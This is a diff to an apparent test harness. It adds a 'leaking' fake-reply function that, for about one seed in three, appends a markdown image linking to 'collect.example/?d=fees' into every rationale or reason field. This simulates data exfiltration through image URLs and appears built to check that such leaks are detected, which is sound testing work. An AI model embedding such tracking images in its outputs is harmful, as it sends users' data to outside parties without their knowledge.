@@ -17,6 +17,7 @@ _TAGGED = re.compile(r"<([A-Za-z][\w-]*)[^>]*>\n(.*?)\n</\1>", re.DOTALL)
 _TICKED = re.compile(r"```[^\n]*\n(.*?)\n```", re.DOTALL)
 _NUMBERED_LINE = re.compile(r"^\s*\d+\s*\|\s?", re.MULTILINE)
 _QUOTE_NAMES = ("quote", "exact", "evidence", "excerpt")
+_REASON_NAMES = ("rationale", "reason")
 _DISSENT = 0.2
 """Share of seeds whose choices differ from what most seeds choose."""
 
@@ -50,6 +51,25 @@ def inventing(request: dict[str, Any]) -> str:
         return value
 
     return json.dumps(invented(json.loads(answer(request))), ensure_ascii=False)
+
+
+def leaking(request: dict[str, Any]) -> str:
+    """The same, but a reply in three carries a picture whose address gives something away."""
+
+    def leaked(value: Any) -> Any:
+        if isinstance(value, list):
+            return [leaked(each) for each in value]
+        if isinstance(value, dict):
+            return {
+                key: f"{each} ![x](https://collect.example/?d=fees)" if key in _REASON_NAMES else leaked(each)
+                for key, each in value.items()
+            }
+        return value
+
+    said = answer(request)
+    if sha256(f"{request.get('seed', 0)}".encode()).digest()[0] % 3:
+        return said
+    return json.dumps(leaked(json.loads(said)), ensure_ascii=False)
 
 
 def document_text(user: str) -> str:
